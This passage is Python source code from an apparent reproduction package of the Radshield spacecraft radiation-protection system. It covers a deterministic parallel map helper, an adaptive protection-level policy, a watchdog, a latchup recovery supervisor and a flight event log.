    return [np.random.default_rng(child) for child in root.spawn(n)]


def resolve_workers(workers: "int | None", n_items: "int | None" = None) -> int:
    """Effective worker count: explicit request, else one per CPU,
    never more than the number of items."""
    count = os.cpu_count() or 1
    effective = count if workers is None else int(workers)
    if n_items is not None:
        effective = min(effective, n_items)
    return max(1, effective)


def _pool_usable(min_cpus: int = 2) -> bool:
    """Whether a fork pool is worth (and capable of) starting."""
    if "fork" not in multiprocessing.get_all_start_methods():
        return False
    return (os.cpu_count() or 1) >= min_cpus


def _invoke(payload):
    """Run one task; returns (value, seconds, pid, trace_records).
    Top-level so the pool can pickle it."""
    fn, item, child_seed, with_tracer = payload
    tracer = None
    extra = ()
    if with_tracer:
        from .obs import TraceRecorder

        tracer = TraceRecorder(ring_size=None)
        extra = (tracer,)
    started = time.perf_counter()
    if child_seed is None:
        value = fn(item, *extra)
    else:
        value = fn(item, np.random.default_rng(child_seed), *extra)
    records = tracer.drain() if tracer is not None else None
    return value, time.perf_counter() - started, os.getpid(), records


def pmap_report(
    fn,
    items,
    *,
    seed=None,
    workers: "int | None" = None,
    chunksize: "int | None" = None,
    force_pool: bool = False,
    trace_path: "str | None" = None,
    on_result=None,
    supervision=None,
    metrics=None,
) -> ParallelReport:
    """Map ``fn`` over ``items``, deterministically, maybe in parallel.

    Parameters
    ----------
    fn:
        Top-level callable. Called as ``fn(item, rng)`` when ``seed``
        is given, else ``fn(item)``. With ``trace_path`` set, a fresh
        :class:`repro.obs.TraceRecorder` is appended to the argument
        list (``fn(item, rng, tracer)``).
    seed:
        Root seed (int or :class:`numpy.random.SeedSequence`). Task
        *i* gets the generator spawned at index *i* regardless of the
        worker count, so results never depend on scheduling.
    workers:
        Desired parallelism. ``None`` = one per CPU; ``1`` = the pure
        serial path. Small hosts / missing fork degrade to serial.
    chunksize:
        Pool chunking (default: ~4 chunks per worker).
    force_pool:
        Start the pool even on a single-CPU host (used by the
        determinism tests so the pool path is always exercised).
    trace_path:
        Merge every task's trace records into this JSONL file, in
        task order (byte-identical at any worker count).
    on_result:
        Optional ``on_result(index, value)`` callback, invoked in the
        *parent* process, in ascending task order, as each task's
        result arrives (the pool path streams through ``imap``). This
        is the campaign engine's incremental-persistence hook: a run
        killed mid-grid keeps every trial already absorbed. Under
        ``supervision`` results stream in *completion* order instead —
        retries reorder arrivals — so the callback must key on the
        index, not on call order.
    supervision:
        A :class:`repro.ground.GroundPolicy`. Routes the batch through
        the fault-tolerant ground executor (per-task wall-clock
        timeouts, bounded retry with byte-identical reseeding,
        crashed/hung-worker replacement, poison-task quarantine,
        serial fallback when the pool is repeatedly lost). ``metrics``
        (a :class:`repro.obs.MetricsRegistry`) then receives the
        ``ground.*`` counters; both are ignored on the plain path.
    """
    if supervision is not None:
        from .ground.supervision import supervised_pmap_report

        return supervised_pmap_report(
            fn,
            items,
            seed=seed,
            policy=supervision,
            workers=workers,
            trace_path=trace_path,
            on_result=on_result,
            metrics=metrics,
        )
    items = list(items)
    n = len(items)
    if seed is None:
        child_seeds = [None] * n
    else:
        root = seed if isinstance(seed, np.random.SeedSequence) else np.random.SeedSequence(seed)
        child_seeds = root.spawn(n)
    with_tracer = trace_path is not None
    payloads = [
        (fn, item, child, with_tracer)
        for item, child in zip(items, child_seeds)
    ]

    effective = resolve_workers(workers, n)
    use_pool = n > 0 and effective > 1 and (force_pool or _pool_usable())

    def _stream(iterable) -> "list":
        collected = []
        for index, outcome in enumerate(iterable):
            collected.append(outcome)
            if on_result is not None:
                on_result(index, outcome[0])
        return collected

    started = time.perf_counter()
    outcomes = None
    mode = "serial"
    if use_pool:
        if chunksize is None:
            chunksize = max(1, n // (effective * 4))
        try:
            context = multiprocessing.get_context("fork")
            with context.Pool(processes=effective) as pool:
                outcomes = _stream(
                    pool.imap(_invoke, payloads, chunksize=chunksize)
                )
            mode = "fork-pool"
        except (OSError, ValueError):
            outcomes = None  # fall through to the serial path
    if outcomes is None:
        effective = 1
        outcomes = _stream(_invoke(payload) for payload in payloads)

    wall = time.perf_counter() - started
    values = [value for value, _, _, _ in outcomes]
    timings = tuple(
        TaskTiming(index=i, seconds=seconds, pid=pid)
        for i, (_, seconds, pid, _) in enumerate(outcomes)
    )
    if with_tracer:
        from .obs import merge_task_records

        merge_task_records(
            [records or [] for _, _, _, records in outcomes], trace_path
        )
    return ParallelReport(
        values=values,
        timings=timings,
        workers=effective,
        mode=mode,
        wall_seconds=wall,
    )


def pmap(
    fn,
    items,
    *,
    seed=None,
    workers: "int | None" = None,
    chunksize: "int | None" = None,
    force_pool: bool = False,
    trace_path: "str | None" = None,
) -> "list":
    """:func:`pmap_report` without the accounting — just the values,
    in input order."""
    return pmap_report(
        fn,
        items,
        seed=seed,
        workers=workers,
        chunksize=chunksize,
        force_pool=force_pool,
        trace_path=trace_path,
    ).values
