"""Degradation policy: adapt protection strength to the environment.

Radshield's mechanisms have dials — EMR's replication level and
acceptance threshold, ILD's residual threshold and persistence — and
the paper's deployments pick them once, on the ground. A long mission
cannot: solar particle events raise the flux for days, power budgets
shrink as panels degrade, and a fixed configuration is either wasteful
in quiet cruise or porous in a storm. The policy engine closes that
loop. It watches the protection stack's own signals (ILD alarms, EMR
vote corrections and detected faults) and walks the machine up and
down a ladder of :class:`ProtectionLevel` presets, logging every move
as an ``emr.degrade`` EVR so the flight log shows *when* and *why*
the replication level changed.

Escalation is eager (one sustained-signal window is enough) and
de-escalation is lazy (a long quiet period plus a cooldown), the usual
asymmetry for protection systems: the cost of being over-protected is
watts, the cost of being under-protected is the mission.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field

from ..core.ild.detector import IldConfig
from ..errors import ConfigurationError
from ..flightsw.eventlog import EvrSeverity
from ..obs import NULL_OBS


@dataclass(frozen=True)
class ProtectionLevel:
    """One rung of the protection ladder: a coherent EMR + ILD preset."""

    name: str
    #: EMR replicas per job (2 = detect-only pair, 3 = full vote).
    n_executors: int
    #: EMR acceptance threshold (fraction of replica disagreement).
    replication_threshold: float
    #: ILD deployment parameters at this level.
    ild: IldConfig
    #: Rough current cost of running protected at this level (amps),
    #: used when a power budget caps the ladder.
    current_cost_amps: float

    def __post_init__(self) -> None:
        if self.n_executors < 2:
            raise ConfigurationError("a protection level needs >= 2 executors")


#: Minimum protection: two replicas (disagreement detects but cannot
#: out-vote), relaxed ILD. For quiet cruise under a tight power budget.
ECONOMY = ProtectionLevel(
    name="economy",
    n_executors=2,
    replication_threshold=0.5,
    ild=IldConfig(residual_threshold_amps=0.075, persistence_seconds=4.0),
    current_cost_amps=0.50,
)

#: The paper's deployed configuration: triple replication, Table-1 ILD.
STANDARD = ProtectionLevel(
    name="standard",
    n_executors=3,
    replication_threshold=0.2,
    ild=IldConfig(),
    current_cost_amps=0.68,
)

#: Storm configuration: triple replication with a strict acceptance
#: threshold and a hair-trigger ILD.
HARDENED = ProtectionLevel(
    name="hardened",
    n_executors=3,
    replication_threshold=0.05,
    ild=IldConfig(residual_threshold_amps=0.045, persistence_seconds=2.0),
    current_cost_amps=0.72,
)

#: The ladder, weakest to strongest.
LEVELS: "tuple[ProtectionLevel, ...]" = (ECONOMY, STANDARD, HARDENED)


def point_named(name: str, lattice: "tuple" = LEVELS):
    """Resolve a point of ``lattice`` by canonical name or alias.

    Lattice points are duck-typed: anything with ``name``,
    ``n_executors``, ``current_cost_amps``, and ``ild`` qualifies —
    both :class:`ProtectionLevel` and
    :class:`~repro.hmr.modes.RedundancyMode` (whose legacy aliases
    ``economy``/``standard``/``hardened`` resolve here too).
    """
    for point in lattice:
        if point.name == name or name in getattr(point, "aliases", ()):
            return point
    raise ConfigurationError(
        f"unknown protection level {name!r}; "
        f"choose from {[point.name for point in lattice]}"
    )


def level_named(name: str) -> ProtectionLevel:
    return point_named(name, LEVELS)


@dataclass(frozen=True)
class PolicyConfig:
    """Escalation/de-escalation tuning."""

    #: Signals are counted over this sliding window.
    window_seconds: float = 3600.0
    #: ILD alarms within the window that trigger escalation.
    escalate_alarms: int = 2
    #: EMR corrections + detected faults within the window that
    #: trigger escalation.
    escalate_faults: int = 3
    #: Quiet time (no signals) before stepping back down one level.
    deescalate_quiet_seconds: float = 4 * 3600.0
    #: Minimum spacing between any two level changes.
    cooldown_seconds: float = 600.0
    #: Optional current budget (amps); levels whose
    #: ``current_cost_amps`` exceeds it are unreachable, and the
    #: policy steps down if the current level breaks the budget.
    power_budget_amps: "float | None" = None
    start_level: str = "standard"

    def __post_init__(self) -> None:
        if self.window_seconds <= 0 or self.cooldown_seconds < 0:
            raise ConfigurationError("policy windows must be positive")
        if self.escalate_alarms < 1 or self.escalate_faults < 1:
            raise ConfigurationError("escalation counts must be >= 1")


@dataclass(frozen=True)
class LevelChange:
    """One policy decision, as reported to callers and the event log."""

    time: float
    from_level: ProtectionLevel
    to_level: ProtectionLevel
    reason: str


@dataclass
class _Signals:
    alarms: "list[float]" = field(default_factory=list)
    faults: "list[float]" = field(default_factory=list)
    last_signal_time: float = float("-inf")


class DegradationPolicy:
    """Walks a protection lattice in response to observed signals.

    Callers feed it :meth:`observe_alarm` / :meth:`observe_fault` as
    incidents happen and call :meth:`update` at decision points (the
    mission simulator does so once per telemetry chunk). ``update``
    returns the :class:`LevelChange` if one was made, else ``None``.

    ``lattice`` is the ordered weakest-to-strongest tuple of points to
    walk: the legacy :data:`LEVELS` ladder by default, or the HMR mode
    lattice (:data:`repro.hmr.MODES`) — any tuple of objects shaped
    like :class:`ProtectionLevel` works.
    """

    def __init__(
        self,
        config: "PolicyConfig | None" = None,
        eventlog=None,
        obs=None,
        lattice: "tuple | None" = None,
    ) -> None:
        self.config = config or PolicyConfig()
        self.eventlog = eventlog
        self.obs = obs if obs is not None else NULL_OBS
        self.lattice = tuple(lattice) if lattice is not None else LEVELS
        if not self.lattice:
            raise ConfigurationError("the protection lattice is empty")
        start = point_named(self.config.start_level, self.lattice)
        self._index = self.lattice.index(start)
        if not self._affordable(self._index):
            raise ConfigurationError(
                f"start level {self.config.start_level!r} exceeds the "
                f"power budget of {self.config.power_budget_amps} A"
            )
        self._signals = _Signals()
        self._last_change_time = float("-inf")
        self.changes: "list[LevelChange]" = []

    # ------------------------------------------------------------------
    @property
    def level(self):
        return self.lattice[self._index]

    @staticmethod
    def _checked_time(time: float, what: str) -> float:
        """A non-finite timestamp would poison ``max()`` in the quiet
        clock and every window comparison downstream — reject it."""
        time = float(time)
        if not math.isfinite(time):
            raise ConfigurationError(
                f"{what} timestamp must be finite; got {time!r}"
            )
        return time

    def observe_alarm(self, time: float) -> None:
        """An ILD alarm (an SEL trip) at ``time``."""
        time = self._checked_time(time, "alarm")
        self._signals.alarms.append(time)
        self._signals.last_signal_time = max(
            self._signals.last_signal_time, time
        )
        # Prune here too: between decision points a multi-week mission
        # must not accumulate an unbounded signal list.
        self._prune(time)

    def observe_fault(self, time: float) -> None:
        """An EMR vote correction or detected replica fault at ``time``."""
        time = self._checked_time(time, "fault")
        self._signals.faults.append(time)
        self._signals.last_signal_time = max(
            self._signals.last_signal_time, time
        )
        self._prune(time)

    # ------------------------------------------------------------------
    def _affordable(self, index: int) -> bool:
        budget = self.config.power_budget_amps
        return budget is None or self.lattice[index].current_cost_amps <= budget

    def _prune(self, now: float) -> None:
        horizon = now - self.config.window_seconds
        self._signals.alarms = [t for t in self._signals.alarms if t >= horizon]
        self._signals.faults = [t for t in self._signals.faults if t >= horizon]

    def _decide(self, now: float) -> "tuple[int, str] | None":
        """The target index and reason, or ``None`` to hold."""
        if not self._affordable(self._index):
            return self._index - 1, "power budget exceeded"
        alarms = len(self._signals.alarms)
        faults = len(self._signals.faults)
        if alarms >= self.config.escalate_alarms:
            return self._index + 1, f"{alarms} ILD alarms in window"
        if faults >= self.config.escalate_faults:
            return self._index + 1, f"{faults} EMR faults in window"
        quiet = now - self._signals.last_signal_time
        if quiet >= self.config.deescalate_quiet_seconds:
            return self._index - 1, f"quiet for {quiet:.0f}s"
        return None

    def update(self, now: float) -> "LevelChange | None":
        """Evaluate the signals and move at most one rung."""
        now = self._checked_time(now, "decision")
        if self._signals.last_signal_time == float("-inf"):
            # First decision point anchors the quiet clock: the policy
            # cannot claim "quiet since forever" before it has watched
            # anything at all.
            self._signals.last_signal_time = float(now)
            return None
        self._prune(now)
        if now - self._last_change_time < self.config.cooldown_seconds:
            return None
        decision = self._decide(now)
        if decision is None:
            return None
        target, reason = decision
        target = max(0, min(target, len(self.lattice) - 1))
        while target > self._index and not self._affordable(target):
            target -= 1
        if target == self._index:
            return None
        change = LevelChange(
            time=float(now),
            from_level=self.lattice[self._index],
            to_level=self.lattice[target],
            reason=reason,
        )
        direction = "escalate" if target > self._index else "de-escalate"
        self._index = target
        self._last_change_time = float(now)
        # Escalation consumes the signals that caused it; a fresh
        # window must fill before the next move. De-escalation keeps
        # the (empty-by-definition) history.
        self._signals = _Signals()
        self._signals.last_signal_time = float(now)
        self.changes.append(change)
        if self.eventlog is not None:
            self.eventlog.log(
                "emr.degrade",
                f"{direction} {change.from_level.name} -> "
                f"{change.to_level.name}: {reason}",
                EvrSeverity.WARNING_LO,
                time=now,
                from_level=change.from_level.name,
                to_level=change.to_level.name,
                n_executors=change.to_level.n_executors,
            )
        if self.obs.enabled:
            self.obs.tracer.event(
                "emr.degrade", t=float(now),
                from_level=change.from_level.name,
                to_level=change.to_level.name,
            )
            self.obs.metrics.counter("policy.level_changes").inc()
        return change
