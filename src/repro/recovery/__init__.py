"""Recovery orchestration: supervised SEL response, watchdog deadlines
and the degradation policy that adapts protection strength in flight.

See ``docs/recovery.md`` for the operator story.
"""

from .policy import (
    ECONOMY,
    HARDENED,
    LEVELS,
    STANDARD,
    DegradationPolicy,
    LevelChange,
    PolicyConfig,
    ProtectionLevel,
    level_named,
    point_named,
)
from .supervisor import RecoveryOutcome, RecoverySupervisor, SupervisorConfig
from .watchdog import Watchdog

__all__ = [
    "ECONOMY",
    "HARDENED",
    "LEVELS",
    "STANDARD",
    "DegradationPolicy",
    "LevelChange",
    "PolicyConfig",
    "ProtectionLevel",
    "RecoveryOutcome",
    "RecoverySupervisor",
    "SupervisorConfig",
    "Watchdog",
    "level_named",
    "point_named",
]
