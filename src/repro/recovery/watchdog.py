"""Deadline watchdog for protected work.

Real flight computers pair every critical task with a hardware
watchdog: the task must strobe ("kick") the timer before it expires,
or the board is forcibly restarted on the assumption that the software
is wedged — exactly the failure mode an SEU in control-flow state
produces. The simulator's analog is clock-based: protected work runs
under :meth:`Watchdog.guard`, and if the simulated clock has run past
the deadline when the guard closes (or whenever :meth:`check` is
called), the watchdog *bites* — it reboots the machine and logs a
``watchdog.reboot`` EVR, which the incident summarizer classifies as a
recovery action.
"""

from __future__ import annotations

from contextlib import contextmanager

from ..errors import ConfigurationError
from ..flightsw.eventlog import EvrSeverity
from ..obs import NULL_OBS


class Watchdog:
    """Clock-deadline watchdog bound to one machine.

    The simulation is not preemptive, so expiry is detected at check
    points rather than asynchronously: the deadline is an absolute
    simulated time, and :meth:`check` (called explicitly, or by the
    ``guard`` context manager on exit) fires the reboot if the clock
    has passed it. That models a hardware watchdog that bit *during*
    the overlong run — the downtime lands where the hardware would
    have put it.
    """

    def __init__(self, machine, eventlog=None, obs=None) -> None:
        self.machine = machine
        self.eventlog = eventlog
        self.obs = obs if obs is not None else NULL_OBS
        self._deadline: "float | None" = None
        self._timeout: "float | None" = None
        #: Times the watchdog bit (forced a reboot).
        self.expirations = 0

    # ------------------------------------------------------------------
    @property
    def armed(self) -> bool:
        return self._deadline is not None

    @property
    def deadline(self) -> "float | None":
        """Absolute simulated time the watchdog bites at, if armed."""
        return self._deadline

    def arm(self, timeout_seconds: float) -> None:
        """Start (or restart) the countdown from the current time."""
        if timeout_seconds <= 0:
            raise ConfigurationError("watchdog timeout must be positive")
        self._timeout = float(timeout_seconds)
        self._deadline = self.machine.clock.now + self._timeout

    def kick(self) -> None:
        """Strobe: push the deadline out by the armed timeout."""
        if self._timeout is None:
            raise ConfigurationError("cannot kick a watchdog that was never armed")
        self._deadline = self.machine.clock.now + self._timeout

    def disarm(self) -> None:
        self._deadline = None

    # ------------------------------------------------------------------
    @property
    def expired(self) -> bool:
        return self._deadline is not None and self.machine.clock.now > self._deadline

    def check(self) -> bool:
        """Fire if expired. Returns True when a forced reboot happened."""
        if not self.expired:
            return False
        overrun = self.machine.clock.now - self._deadline
        self.expirations += 1
        self._deadline = None
        self.machine.reboot()
        if self.eventlog is not None:
            self.eventlog.log(
                "watchdog.reboot",
                f"deadline missed by {overrun:.3f}s; forced reboot",
                EvrSeverity.WARNING_HI,
                time=self.machine.clock.now,
                overrun_s=round(overrun, 6),
            )
        if self.obs.enabled:
            self.obs.tracer.event(
                "watchdog.reboot", t=self.machine.clock.now,
                overrun_s=float(overrun),
            )
            self.obs.metrics.counter("watchdog.expirations").inc()
        return True

    @contextmanager
    def guard(self, timeout_seconds: float):
        """Run a block under a deadline; bite on exit if it overran.

        The guarded block may call :meth:`kick` to extend its budget
        and :meth:`check` at convenient cancellation points. The guard
        always performs a final check before disarming — even when the
        block raised, because a wedged-then-crashed task still left
        the board needing its watchdog restart.
        """
        self.arm(timeout_seconds)
        try:
            yield self
        finally:
            self.check()
            self.disarm()
