"""The recovery supervisor: Radshield's SEL response, orchestrated.

The paper's response to an ILD alarm is one line — "flagging a
potential SEL and rebooting" — because on the real testbed the power
relay and a process manager do the rest. The simulator has to own
that rest explicitly, and this module is where it lives:

1. **Checkpoint.** Before protected work starts, the supervisor
   captures a full :meth:`Machine.snapshot`.
2. **Power cycle with bounded retry.** On alarm it drops power. If
   residual current remains (the cycle did not clear the latchup —
   rare, but §2.1 warns restarts "may not completely clear out the
   SEL's residual charge"), it backs off and retries, doubling the
   wait, up to a configured attempt budget. Exhausting the budget is
   a FATAL event and raises :class:`~repro.errors.RecoveryFailedError`.
3. **Rollback.** DRAM and flash are restored from the checkpoint —
   the power cycle destroyed volatile state, and in-flight outputs
   written since the checkpoint are suspect anyway. The clock is
   *not* rewound: recovery takes real mission time.
4. **Replay.** Registered in-flight work is re-run under a
   :class:`~repro.recovery.watchdog.Watchdog` deadline, so a recovery
   that itself wedges (an SEU in the replay path) cannot hang the
   mission — the watchdog bites and the attempt is counted failed.

Every step lands in the flight event log (``sel.power_cycle``,
``recovery.rollback``, ``recovery.replay``) and the trace, so the
incident summarizer can show the full injection → detection →
recovery chain.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..errors import ConfigurationError, DetectedFaultError, RecoveryFailedError
from ..flightsw.eventlog import EvrSeverity
from ..obs import NULL_OBS
from .watchdog import Watchdog


@dataclass(frozen=True)
class SupervisorConfig:
    """Retry budgets and deadlines for the SEL response."""

    #: Power-cycle attempts before declaring recovery failed.
    max_power_cycle_attempts: int = 3
    #: Wait before the second attempt; doubles each further attempt
    #: (lets residual charge bleed off, as §2.1 suggests).
    retry_backoff_seconds: float = 8.0
    backoff_factor: float = 2.0
    #: Residual draw at or below this counts as baseline restored.
    current_epsilon_amps: float = 1e-9
    #: Watchdog deadline for one replay of the in-flight work.
    replay_deadline_seconds: float = 900.0
    max_replay_attempts: int = 2
    #: Raise :class:`RecoveryFailedError` when the attempt budget is
    #: exhausted (the chaos harness sets this False to keep fuzzing).
    raise_on_failure: bool = True

    def __post_init__(self) -> None:
        if self.max_power_cycle_attempts < 1:
            raise ConfigurationError("need at least one power-cycle attempt")
        if self.retry_backoff_seconds < 0 or self.backoff_factor < 1:
            raise ConfigurationError("backoff must be non-negative, factor >= 1")
        if self.max_replay_attempts < 1:
            raise ConfigurationError("need at least one replay attempt")


@dataclass(frozen=True)
class RecoveryOutcome:
    """What one :meth:`RecoverySupervisor.handle_alarm` call achieved."""

    alarm_time: float
    power_cycle_attempts: int
    recovered: bool
    rolled_back: bool
    replayed: bool
    #: ``None`` when nothing was registered to replay.
    replay_ok: "bool | None"
    downtime_seconds: float
    residual_current_amps: float


class RecoverySupervisor:
    """Owns the alarm → power-cycle → rollback → replay sequence.

    One supervisor serves one machine. The mission simulator (and the
    chaos harness) construct it next to the detector, call
    :meth:`checkpoint` before protected work, keep the current work
    registered via :meth:`register_inflight`, and route every ILD or
    OCP alarm through :meth:`handle_alarm`.
    """

    def __init__(
        self,
        machine,
        detector=None,
        eventlog=None,
        config: "SupervisorConfig | None" = None,
        watchdog: "Watchdog | None" = None,
        policy=None,
        obs=None,
    ) -> None:
        self.machine = machine
        self.detector = detector
        self.eventlog = eventlog
        self.config = config or SupervisorConfig()
        self.obs = obs if obs is not None else NULL_OBS
        self.watchdog = watchdog or Watchdog(machine, eventlog, obs=self.obs)
        self.policy = policy
        self._checkpoint = None
        self._inflight: "tuple[str, object] | None" = None
        self.outcomes: "list[RecoveryOutcome]" = []

    # ------------------------------------------------------------------
    def checkpoint(self):
        """Capture the machine as the rollback point for the next alarm."""
        self._checkpoint = self.machine.snapshot()
        if self.obs.enabled:
            self.obs.tracer.event(
                "recovery.checkpoint", t=self.machine.clock.now
            )
        return self._checkpoint

    def register_inflight(self, label: str, replay_fn) -> None:
        """Declare the protected work currently in flight.

        ``replay_fn(machine)`` re-runs that work after a recovery; it
        returns truthy (or ``None``) on success, falsy on a verified
        mismatch, and may raise :class:`DetectedFaultError`. It runs
        under the supervisor's watchdog deadline.
        """
        self._inflight = (label, replay_fn)

    def clear_inflight(self) -> None:
        """The in-flight work committed; nothing to replay on alarm."""
        self._inflight = None

    # ------------------------------------------------------------------
    def _log(self, name: str, message: str, severity, **args) -> None:
        if self.eventlog is not None:
            self.eventlog.log(
                name, message, severity, time=self.machine.clock.now, **args
            )

    def handle_alarm(self, alarm_time: "float | None" = None) -> RecoveryOutcome:
        """Run the full supervised SEL response. Returns the outcome."""
        cfg = self.config
        machine = self.machine
        if alarm_time is None:
            alarm_time = machine.clock.now
        started = machine.clock.now

        # -- power cycle, with bounded retry + doubling backoff --------
        attempts = 0
        backoff = cfg.retry_backoff_seconds
        residual = abs(machine.extra_current_draw)
        recovered = False
        while attempts < cfg.max_power_cycle_attempts:
            attempts += 1
            machine.power_cycle()
            residual = abs(machine.extra_current_draw)
            recovered = residual <= cfg.current_epsilon_amps
            self._log(
                "sel.power_cycle",
                f"attempt {attempts}: residual draw {residual:.4f} A",
                EvrSeverity.WARNING_HI if recovered else EvrSeverity.FATAL,
                attempt=attempts,
                residual_amps=round(residual, 6),
            )
            if self.obs.enabled:
                self.obs.tracer.event(
                    "sel.power_cycle", t=machine.clock.now,
                    attempt=attempts, residual_amps=float(residual),
                )
            if recovered:
                break
            machine.clock.advance(backoff)
            backoff *= cfg.backoff_factor

        # The power cycle destroyed the detector's streaming state's
        # physical substrate; mirror that in the model.
        if self.detector is not None:
            self.detector.reset()
        if self.policy is not None:
            self.policy.observe_alarm(alarm_time)

        if not recovered:
            self._log(
                "recovery.failed",
                f"{attempts} power cycles left {residual:.4f} A residual",
                EvrSeverity.FATAL,
                attempts=attempts,
            )
            outcome = RecoveryOutcome(
                alarm_time=float(alarm_time),
                power_cycle_attempts=attempts,
                recovered=False,
                rolled_back=False,
                replayed=False,
                replay_ok=None,
                downtime_seconds=machine.clock.now - started,
                residual_current_amps=residual,
            )
            self.outcomes.append(outcome)
            if cfg.raise_on_failure:
                raise RecoveryFailedError(
                    f"{attempts} power-cycle attempts left "
                    f"{residual:.4f} A of latchup draw"
                )
            return outcome

        # -- rollback: memory + storage from the checkpoint -------------
        rolled_back = False
        if self._checkpoint is not None:
            machine.memory.restore(self._checkpoint.memory)
            machine.storage.restore(self._checkpoint.storage)
            rolled_back = True
            self._log(
                "recovery.rollback",
                "DRAM and flash restored from checkpoint",
                EvrSeverity.ACTIVITY_HI,
                checkpoint_t=round(self._checkpoint.clock_now, 3),
            )
            if self.obs.enabled:
                self.obs.tracer.event(
                    "recovery.rollback", t=machine.clock.now,
                    checkpoint_t=float(self._checkpoint.clock_now),
                )

        # -- replay in-flight work under the watchdog -------------------
        replayed = False
        replay_ok: "bool | None" = None
        if self._inflight is not None:
            label, replay_fn = self._inflight
            replayed = True
            replay_ok = False
            for attempt in range(1, cfg.max_replay_attempts + 1):
                failure = ""
                with self.watchdog.guard(cfg.replay_deadline_seconds):
                    try:
                        result = replay_fn(machine)
                        replay_ok = True if result is None else bool(result)
                    except DetectedFaultError as exc:
                        replay_ok = False
                        failure = f": {exc}"
                self._log(
                    "recovery.replay",
                    f"replayed {label!r}, attempt {attempt}: "
                    + ("ok" if replay_ok else f"failed{failure}"),
                    EvrSeverity.ACTIVITY_HI if replay_ok
                    else EvrSeverity.WARNING_HI,
                    label=label,
                    attempt=attempt,
                    ok=replay_ok,
                )
                if self.obs.enabled:
                    self.obs.tracer.event(
                        "recovery.replay", t=machine.clock.now,
                        label=label, attempt=attempt, ok=replay_ok,
                    )
                if replay_ok:
                    break

        outcome = RecoveryOutcome(
            alarm_time=float(alarm_time),
            power_cycle_attempts=attempts,
            recovered=True,
            rolled_back=rolled_back,
            replayed=replayed,
            replay_ok=replay_ok,
            downtime_seconds=machine.clock.now - started,
            residual_current_amps=residual,
        )
        self.outcomes.append(outcome)
        if self.obs.enabled:
            self.obs.metrics.counter("recovery.alarms_handled").inc()
        return outcome
