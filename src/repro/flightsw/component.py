"""Flight-software components (an F´-style architecture [75]).

The paper's ground SEL campaign runs "a real-world flight software
workload" — F´, NASA's component-based flight framework. This package
reproduces that substrate in miniature: flight software is a set of
*components* dispatched by *rate groups*, exchanging *commands* and
emitting *telemetry*. Components report the compute activity each tick
costs, which is what ties flight software to the simulated machine's
power draw (and therefore to ILD).
"""

from __future__ import annotations

import abc
from dataclasses import dataclass

from ..errors import ConfigurationError


@dataclass(frozen=True)
class ActivityCost:
    """Machine activity one component tick consumed."""

    instructions: int = 0
    dram_bytes: int = 0
    disk_reads: int = 0
    disk_writes: int = 0

    def __add__(self, other: "ActivityCost") -> "ActivityCost":
        return ActivityCost(
            self.instructions + other.instructions,
            self.dram_bytes + other.dram_bytes,
            self.disk_reads + other.disk_reads,
            self.disk_writes + other.disk_writes,
        )


@dataclass
class TickContext:
    """Everything a component may touch during one dispatch."""

    time: float
    dt: float
    telemetry: "object"  # TelemetryDb (duck-typed to avoid a cycle)
    rng: "object"  # numpy Generator

    def emit(self, channel: str, value: float) -> None:
        self.telemetry.store(channel, self.time, value)


class Component(abc.ABC):
    """One schedulable flight-software component."""

    #: Dispatch rate in Hz; must divide the scheduler's base rate.
    rate_hz: float = 1.0

    def __init__(self, name: str) -> None:
        if not name:
            raise ConfigurationError("component needs a name")
        self.name = name
        self.enabled = True

    @abc.abstractmethod
    def tick(self, ctx: TickContext) -> ActivityCost:
        """One rate-group dispatch; returns the activity consumed."""

    def handle_command(self, opcode: str, args: "dict") -> "str | None":
        """Optional command handler; return an error string to fail."""
        return f"{self.name}: unknown opcode {opcode!r}"

    def telemetry_channels(self) -> "tuple[str, ...]":
        """Channels this component emits (for downlink dictionaries)."""
        return ()

    def __repr__(self) -> str:
        return f"{type(self).__name__}({self.name!r}, {self.rate_hz:g} Hz)"
