"""Flight event log — the EVR channel real flight software keeps.

F´ calls these *event reports* (EVRs): timestamped, severity-tagged
records a component emits when something noteworthy happens, kept in a
bounded onboard ring and downlinked on request. Radshield's noteworthy
moments are exactly the paper's protection actions — an ILD trip, the
power-cycle response, an EMR vote that corrected a replica — so the
mission simulator and the :class:`~repro.core.radshield.Radshield`
facade both write here.

Two commit paths serve the two producers:

* events logged **with an explicit time** (Radshield acting outside the
  rate-group schedule) commit to the ring immediately;
* events logged **without one** wait for the component's next rate-group
  dispatch, which stamps them with the tick time — the F´ behaviour,
  where the logger component owns the timestamp.
"""

from __future__ import annotations

import dataclasses
from collections import deque
from dataclasses import dataclass
from enum import IntEnum

from ..errors import ConfigurationError, InvalidAddressError
from ..sim.faults import FaultRegion
from .component import ActivityCost, Component, TickContext


class EvrSeverity(IntEnum):
    """F´-style severity ladder (ascending urgency)."""

    DIAGNOSTIC = 0
    ACTIVITY_LO = 1
    ACTIVITY_HI = 2
    WARNING_LO = 3
    WARNING_HI = 4
    FATAL = 5


@dataclass(frozen=True)
class FlightEvent:
    """One committed EVR."""

    time: float
    severity: EvrSeverity
    name: str
    message: str
    args: "tuple[tuple[str, object], ...]" = ()

    def render(self) -> str:
        suffix = ""
        if self.args:
            suffix = " [" + " ".join(f"{k}={v}" for k, v in self.args) + "]"
        return (
            f"t={self.time:+12.3f}s {self.severity.name:<11} "
            f"{self.name}: {self.message}{suffix}"
        )


#: Bookkeeping cost of committing one EVR (format + ring insert).
_INSTRUCTIONS_PER_EVENT = 20_000


class EventLog(Component):
    """Bounded EVR ring, schedulable as a 1 Hz flight component."""

    rate_hz = 1.0

    def __init__(self, name: str = "evr", capacity: int = 512) -> None:
        super().__init__(name)
        if capacity < 1:
            raise ConfigurationError("event log capacity must be >= 1")
        self.capacity = capacity
        self._events: "deque[FlightEvent]" = deque(maxlen=capacity)
        self._pending: "list[tuple[EvrSeverity, str, str, tuple]]" = []
        self.total_logged = 0
        self.dropped = 0
        #: Committed events corrupted in place by :meth:`strike`.
        self.struck = 0

    # ------------------------------------------------------------------
    def log(
        self,
        name: str,
        message: str,
        severity: EvrSeverity = EvrSeverity.ACTIVITY_LO,
        time: "float | None" = None,
        **args: object,
    ) -> None:
        """Record one event. With ``time`` it commits immediately;
        without, it is stamped and committed at the next dispatch."""
        packed = tuple(sorted(args.items()))
        if time is None:
            self._pending.append((EvrSeverity(severity), name, message, packed))
        else:
            self._commit(FlightEvent(float(time), EvrSeverity(severity),
                                     name, message, packed))

    def _commit(self, event: FlightEvent) -> None:
        if len(self._events) == self.capacity:
            self.dropped += 1
        self._events.append(event)
        self.total_logged += 1

    # ------------------------------------------------------------------
    def tick(self, ctx: TickContext) -> ActivityCost:
        committed = 0
